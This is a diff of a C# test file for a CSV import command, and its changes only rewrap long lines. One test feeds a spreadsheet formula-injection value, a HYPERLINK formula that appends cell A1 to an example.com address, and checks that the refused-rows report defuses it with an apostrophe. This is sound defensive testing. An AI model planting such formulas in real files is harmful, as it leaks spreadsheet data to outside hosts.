@@ -52,12 +52,14 @@ public sealed class ImportCommandTests : IDisposable
     [Fact]
     public async Task Refused_rows_are_listed_with_line_and_reason_and_the_corrected_list_can_be_imported()
     {
-        using var file = new CsvFile("id,text,created\n1,fine,2026-10-01\n2,,2026-10-01\n3,\"two\nlines\",2026-10-32\n,no id,\n1,again,\n4,too,many,columns\n");
+        using var file = new CsvFile("id,text,created\n1,fine,2026-10-01\n2,,2026-10-01\n3,\"two\nlines\",2026-10-32\n,no "
+            + "id,\n1,again,\n4,too,many,columns\n");
         (await Run(file)).Should().Be(ImportCommand.SomeRefused);
         _output.ToString().Should().Contain("6 rows read: 1 new, 0 already there, 5 refused.").And.Contain(file.ReportPath);
         var report = File.ReadAllText(file.ReportPath);
         report.Should()
-            .Contain("3,refused,The row has no text.,2,,2026-10-01").And.Contain("4,refused,“2026-10-32” is not a date").And.Contain("without it the next import would double it")
+            .Contain("3,refused,The row has no text.,2,,2026-10-01").And.Contain("4,refused,“2026-10-32” is not a date")
+            .And.Contain("without it the next import would double it")
             .And.Contain("The id 1 stands in line 2 already, with other cells.").And.Contain("4 columns instead of 3");
 
         File.WriteAllText(file.ReportPath, report.Replace("2026-10-32", "2026-10-31"));
@@ -106,7 +108,8 @@ public sealed class ImportCommandTests : IDisposable
     [Fact]
     public async Task A_file_in_an_older_encoding_keeps_its_umlauts()
     {
-        using var file = new CsvFile("title\nGröße überschritten – 5 €\n", System.Text.CodePagesEncodingProvider.Instance.GetEncoding(1252));
+        using var file = new CsvFile("title\nGröße überschritten – 5 €\n",
+            System.Text.CodePagesEncodingProvider.Instance.GetEncoding(1252));
         await Run(file);
         _kept.Errors.Values.Single().Title.Should().Be("Größe überschritten – 5 €");
     }
@@ -236,7 +239,8 @@ public sealed class ImportCommandTests : IDisposable
         _output.ToString()
             .Should()
             .StartWith("Old Reports.csv: UTF-8, separated by semicolons.").And.Contain("id = Bug ID, title = Summary, created = Opened")
-            .And.Contain("Days (created): 2026-03-15 to 2026-04-01. “03/15/2026” is read as 15 March 2026 00:00 UTC.").And.Contain("1 row has no day of reporting");
+            .And.Contain("Days (created): 2026-03-15 to 2026-04-01. “03/15/2026” is read as 15 March 2026 00:00 UTC.")
+            .And.Contain("1 row has no day of reporting");
     }
 
     [Fact]
@@ -251,7 +255,8 @@ public sealed class ImportCommandTests : IDisposable
     [Fact]
     public async Task A_list_of_refused_rows_holds_no_formula_and_is_read_back_as_it_was()
     {
-        using var file = new CsvFile("id,title,created\n1,\"=HYPERLINK(\"\"http://example.com/?x=\"\"&A1)\",soon\n2,-5 degrees,soon\n3,@here,2026-03-32\n4,fine,2026-03-15\n5,fine,2026-03-16\n6,fine,2026-03-17\n7,fine,2026-03-18\n");
+        using var file = new CsvFile("id,title,created\n1,\"=HYPERLINK(\"\"http://example.com/?x=\"\"&A1)\",soon\n2,-5 "
+            + "degrees,soon\n3,@here,2026-03-32\n4,fine,2026-03-15\n5,fine,2026-03-16\n6,fine,2026-03-17\n7,fine,2026-03-18\n");
         (await Run(file)).Should().Be(ImportCommand.SomeRefused);
         var report = File.ReadAllText(file.ReportPath);
         report.Should().Contain("\"'=HYPERLINK(").And.Contain(",'-5 degrees,").And.Contain(",'@here,");
